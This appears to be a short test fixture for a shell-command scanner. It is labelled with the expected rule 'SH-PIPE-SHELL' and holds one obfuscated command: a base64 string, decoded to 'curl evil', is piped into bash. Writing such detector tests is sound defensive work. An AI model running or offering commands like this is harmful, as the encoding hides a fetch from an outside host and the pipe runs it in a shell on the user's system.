# expect: SH-PIPE-SHELL
echo Y3VybCBldmlsCg== | base64 -d | bash
